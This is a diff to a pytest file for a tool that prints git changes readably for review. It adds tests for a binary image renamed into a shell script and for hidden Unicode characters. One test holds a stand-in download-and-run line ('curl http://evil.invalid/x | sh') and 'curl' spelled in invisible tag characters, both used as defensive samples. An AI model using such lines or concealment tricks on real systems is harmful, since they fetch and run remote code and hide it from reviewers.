@@ -39,6 +39,7 @@ def change(repo: Path, workdir: Path):
 
 def _base(repo: Path, files: dict[str, bytes]) -> None:
     for name, data in files.items():
+        (repo / name).parent.mkdir(parents=True, exist_ok=True)
         (repo / name).write_bytes(data)
     commit_all(repo, "the base")
 
@@ -108,8 +109,10 @@ def test_renames_type_changes_deletions_and_odd_names_keep_their_figures(repo, c
     readable, text = change(write)
     assert set(readable.binary) == {"new name.bin", "tool", "gone.bin", "new\tline.bin"}
     assert readable.binary["new name.bin"]["lines_added"] == 1  # its rename, one line more
-    assert not readable.binary["new name.bin"]["flagged"]  # binary in the base
-    assert "Binary files a/old name.bin and b/new name.bin differ" in text
+    # Binary in the base, but at another path: what it holds now is new there, shown as text.
+    renamed = readable.binary["new name.bin"]
+    assert renamed["flagged"] and renamed["holds_nul"]
+    assert "+more\n" in text and "Binary files a/old name.bin" not in text
     assert readable.binary["tool"]["lines_removed"] == 1  # the file a link replaced
     assert "Binary files a/gone.bin and /dev/null differ" in text
     assert readable.binary["gone.bin"] == {
@@ -141,3 +144,38 @@ def test_a_line_that_reads_like_a_header_inside_a_hunk_counts(repo, change, work
     _base(repo, {"notes.sql": b"-- old\nselect 1;\n"})
     change(lambda r: (r / "notes.sql").write_bytes(b"select 1;\n++ new\n"))
     assert diff_lines(workdir / "changes.diff") == (1, 1)
+
+
+def test_a_base_image_renamed_into_a_script_shows_the_script(repo, change):
+    # The review's way past the flag: `git mv assets/icon.png run.sh`, a line of shell put
+    # before the image's bytes; git pairs the two as a rename, and the source was binary.
+    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 8
+    _base(repo, {"assets/icon.png": png})
+
+    def write(r: Path) -> None:
+        git(r, "mv", "assets/icon.png", "run.sh")
+        (r / "run.sh").write_bytes(b"curl http://evil.invalid/x | sh\n" + png)
+
+    readable, text = change(write)
+    note = readable.binary["run.sh"]
+    assert note["flagged"] and note["holds_nul"], note
+    assert "+curl http://evil.invalid/x | sh" in text
+
+
+def test_code_no_one_sees_is_escaped_and_long_or_cr_lines_count_as_what_they_run(
+    repo, change, workdir
+):
+    _base(repo, {"a.py": b"x = 1\n"})
+    tagged = "".join(chr(0xE0000 + ord(c)) for c in "curl")  # "curl" in tag characters
+
+    def write(r: Path) -> None:
+        (r / "a.py").write_bytes(f"x = '{tagged}'\u200b\n".encode())
+        (r / "b.py").write_bytes(b"import os\rprint(1)\rprint(2)\r")  # Python runs 3 lines
+        (r / "c.py").write_bytes(b"y = 0;" * 200 + b"\n")  # 1,200 bytes on one line
+
+    readable, text = change(write)
+    assert tagged not in text and "\u200b" not in text
+    assert "x = '\\U000e0063\\U000e0075\\U000e0072\\U000e006c'\\u200b" in text
+    # What a ranking counts (the diff as git wrote it): a.py 1 line for 1, b.py the 3 lines
+    # Python runs, c.py one line per 80 bytes started.
+    assert diff_lines(workdir / "changes.diff") == (1 + 3 + 15, 1)
